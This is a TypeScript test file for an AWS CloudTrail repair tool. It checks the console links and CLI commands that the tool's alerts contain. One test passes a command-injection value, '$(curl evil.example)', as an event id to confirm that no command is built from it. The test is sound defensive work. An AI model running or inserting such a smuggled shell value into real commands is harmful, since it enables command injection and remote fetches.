import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { callOf } from '../memory/calls.ts';
import { World } from '../memory/world.ts';
import { FOREIGN, policyWith } from '../reconcile/policies.ts';
import { trailWith } from '../trail/trails.ts';
import { latest } from './worlds.ts';

/** The links of the alert on a repair, by their labels. */
async function linksOf(...trail: Parameters<typeof trailWith>): Promise<Readonly<Record<string, string>>> {
  const world = new World([trailWith(...trail)], policyWith(FOREIGN));
  await world.pass(callOf('DeleteBucketPolicy'));
  const [, section = ''] = /^LINKS\n((?:.+\n)+)/m.exec(latest(world).body) ?? [];
  return Object.fromEntries(
    section
      .trim()
      .split('\n')
      .map((line) => [line.slice(0, 10).trim(), line.slice(10)]),
  );
}

describe('the links of an alert', () => {
  for (const [partition, region, host] of [
    ['aws', 'eu-west-1', 'console.aws.amazon.com'],
    ['aws-us-gov', 'us-gov-west-1', 'console.amazonaws-us-gov.com'],
    ['aws-cn', 'cn-north-1', 'console.amazonaws.cn'],
  ] as const) {
    it(`lead to the console of ${partition}, to bucket, trail and key`, async () => {
      const kmsKeyArn = `arn:${partition}:kms:${region}:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab`;
      const { bucket = '', trail, key } = await linksOf({ partition, region, kmsKeyArn });
      assert.match(bucket, new RegExp(`^https://${host}/s3/buckets/example-logs\\?region=[a-z0-9-]+&tab=permissions$`));
      assert.equal(
        trail,
        `https://${host}/cloudtrailv2/home?region=${region}#/trails/arn:${partition}:cloudtrail:${region}:111122223333:trail/example`,
      );
      assert.equal(key, `https://${host}/kms/home?region=${region}#/kms/keys/1234abcd-12ab-34cd-56ef-1234567890ab`);
    });
  }

  it('name the commands that show the record, undo, explain, and find the call', async () => {
    const links = await linksOf();
    assert.match(links['record'] ?? '', /^trailmend records show \d{8}T\d{6}Z-[0-9a-f]{8}$/);
    assert.match(links['undo'] ?? '', /^trailmend rollback \d{8}T\d{6}Z-[0-9a-f]{8}$/);
    assert.equal(links['explain'], 'trailmend explain bucket-policy-allows-acl-check');
    assert.match(links['the call'] ?? '', /AttributeKey=EventId,AttributeValue=11111111-2222-4333-8444-555555555555$/);
    assert.equal(links['key'], undefined);
  });

  it('explain the cause, and not the error that follows from it', async () => {
    const world = new World([trailWith()], policyWith(FOREIGN));
    world.trails.set(trailWith().arn, { status: { latestDeliveryError: 'AccessDenied' } });
    await world.pass();
    assert.match(latest(world).body, /^explain {3}trailmend explain bucket-policy-allows-acl-check$/m);
  });

  it('take what is in a name for a name', async () => {
    const { bucket } = await linksOf({ bucket: 'a?b#c&tab=x' });
    assert.match(bucket ?? '', /buckets\/a%3Fb%23c%26tab%3Dx\?region=/);
  });

  it('have no command with an event id that is none', async () => {
    const world = new World([trailWith()], policyWith(FOREIGN));
    await world.pass({ ...callOf('DeleteBucketPolicy'), eventId: '$(curl evil.example)' });
    assert.doesNotMatch(latest(world).body, /lookup-events/);
  });
});
